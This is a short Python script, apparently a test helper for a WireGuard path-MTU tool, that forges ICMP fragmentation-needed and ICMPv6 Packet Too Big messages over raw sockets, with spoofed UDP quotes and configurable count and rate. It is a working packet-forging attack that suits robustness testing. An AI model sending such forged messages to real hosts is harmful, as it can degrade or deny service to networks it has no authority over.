#!/usr/bin/env python3
"""Forges outer ICMP "too big" messages against a wgmtud peer: an ICMP
fragmentation-needed (IPv4) or ICMPv6 Packet Too Big claiming CLAIM bytes,
quoting a UDP datagram FROM -> TO (as if TO's path refused FROM's
WireGuard packet), sent to FROM from this host, COUNT of them (3), at
RATE per second (0: as fast as possible). Prints how many and their IP
bytes. Usage:
pmtud_forge_ptb.py FROM_ADDR FROM_PORT TO_ADDR TO_PORT CLAIM [COUNT [RATE]]"""
import os
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from icmpforge import frag_needed, icmp6_error, udp_quote4, udp_quote6  # noqa: E402



src, sport, dst, dport, claim = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
count = int(sys.argv[6]) if len(sys.argv) > 6 else 3
rate = float(sys.argv[7]) if len(sys.argv) > 7 else 0.0


def send_all(s, body, addr):
    """count copies, paced to rate a second (in slices of 1/100 s)."""
    t0 = time.monotonic()
    for i in range(count):
        s.sendto(body, addr)
        if rate and i % 50 == 49:
            ahead = t0 + (i + 1) / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)


if ":" in src:
    quote = udp_quote6(src, sport, dst, dport) + b"\0" * 1152
    body = icmp6_error(2, 0, claim, quote)  # the kernel fills the ICMPv6 checksum
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    send_all(s, body, (src, 0))
    iplen = 40 + len(body)
else:
    body = frag_needed(claim, udp_quote4(src, sport, dst, dport))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    send_all(s, body, (src, 0))
    iplen = 20 + len(body)
print("sent %d forged too-big messages claiming %d, %d IP bytes" % (count, claim, count * iplen))
